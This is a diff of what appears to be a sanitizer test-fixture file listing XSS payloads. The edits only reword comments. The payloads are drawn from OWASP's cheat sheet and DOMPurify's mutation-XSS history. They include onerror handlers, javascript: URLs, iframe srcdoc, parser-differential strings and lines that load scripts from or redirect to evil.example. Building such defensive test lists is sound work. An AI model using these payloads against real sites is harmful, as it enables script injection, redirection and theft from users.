@@ -1,7 +1,9 @@
 const evilProps = `'{"serverUrl":"//evil.example/","repo":"evil/evil","settings":{"provider":"algolia","algolia":{"appId":"EVIL"}}}'`;
 const islandNames = ["waline", "giscus", "hosted-search", "search-page", "search-panel", "components/a.tsx#default"];
 
-/** What the site's own scripts would act on, in each spelling of a name that one parser or writer makes of another. */
+/**
+ * Names that the site's own scripts act on, in every spelling that a parser or serializer produces.
+ */
 const hookVectors: readonly string[] = [
   ...islandNames.flatMap((name) => [
     `<div data-site-island="${name}" data-site-props=${evilProps} data-site-load="now"></div>`,
@@ -30,11 +32,12 @@ const hookVectors: readonly string[] = [
 ];
 
 /**
- * HTML that runs code in a browser, or has once fooled a sanitiser: OWASP's XSS Filter Evasion Cheat Sheet, and the ways of
- * mutation XSS that DOMPurify's history knows (its package ships no fixtures). Each would call `alert`.
+ * HTML that runs code in a browser, or once fooled a sanitizer. Sources: OWASP's XSS Filter Evasion
+ * Cheat Sheet, and the mutation XSS cases in DOMPurify's history (its package has no fixtures).
+ * Each calls `alert`.
  */
 export const xssVectors: readonly string[] = [
-  // Elements that are code, in each of the three languages of a page.
+  // Elements that are code, in HTML, SVG and MathML.
   "<script>alert(1)</script>",
   "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
   "<<script>alert(1)//<</script>",
@@ -49,14 +52,14 @@ export const xssVectors: readonly string[] = [
   "<svg><style>@import 'https://evil.example/a.css'; *{display:none}</style></svg>",
   "<style>body{background:url(javascript:alert(1))}</style>",
   "<math><style><img src=x onerror=alert(1)></style></math>",
-  // Text of one attribute that would pass for a tag, were HTML rewritten as a string.
+  // Text of an attribute that looks like a tag to code that rewrites HTML as a string.
   '<i title="<img " alt="data-image=" lang="x"></i><i title="><img src=x onerror=alert(1)> ">x</i>',
   '<i title="<a " lang="href=&quot;content:x&quot;"></i><i title="><meta http-equiv=refresh content=0;url=https://evil.example>">x</i>',
-  // Read otherwise by an HTML parser than written.
+  // HTML that a parser reads differently from its source.
   "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
   "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
   "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-  // Pages in pages.
+  // Pages within pages.
   '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
   '<iframe src="javascript:alert(1)" title="t"></iframe>',
   '<iframe src="data:text/html,<script>alert(1)</script>" title="t"></iframe>',
@@ -69,7 +72,7 @@ export const xssVectors: readonly string[] = [
   '<portal src="javascript:alert(1)"></portal>',
   "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
   "<svg><foreignObject><body onload=alert(1)><b>x</b></body></foreignObject></svg>",
-  // Handlers, those that hast has no name for among them.
+  // Event handlers, also those without a name in hast.
   "<img src=x onerror=alert(1)>",
   "<IMG SRC=/ ONERROR = 'alert(1)'>",
   '<img """><img src=x onerror="alert(1)"">',
@@ -121,7 +124,7 @@ export const xssVectors: readonly string[] = [
   '<svg><image href="javascript:alert(1)"></image></svg>',
   '<svg xml:base="javascript:alert(1)//"><a href="#"><text>x</text></a></svg>',
   '<svg><rect fill="url(https://evil.example/a.svg#x)" filter="u\\72l(//evil.example)" mask="image-set(\'//evil.example\' 1x)"/></svg>',
-  // What applies to the whole page.
+  // Elements that apply to the whole page.
   '<base href="https://evil.example/">',
   '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
   '<meta http-equiv="Content-Security-Policy" content="default-src *">',
@@ -133,7 +136,7 @@ export const xssVectors: readonly string[] = [
   '<div style="position:fixed;inset:0">x</div>',
   "<svg style=\"background:url('https://evil.example')\"><rect style='fill:url(//evil.example/a#b)'/></svg>",
   "<svg><style>rect{fill:url(//evil.example/a#b);cursor:url(//evil.example/c),auto}</style><rect/></svg>",
-  // What changes its meaning when a browser reads it again.
+  // HTML that changes its meaning when a browser parses it again.
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
   '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
   '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
@@ -161,7 +164,7 @@ export const xssVectors: readonly string[] = [
   ...hookVectors,
 ];
 
-/** The same in JSX, where HTML's spelling would be a syntax error. */
+/** The same in JSX, where HTML's spelling is a syntax error. */
 export const jsxVectors: readonly string[] = [
   "<script>{`alert(1)`}</script>",
   "<svg><script>{`alert(1)`}</script></svg>",
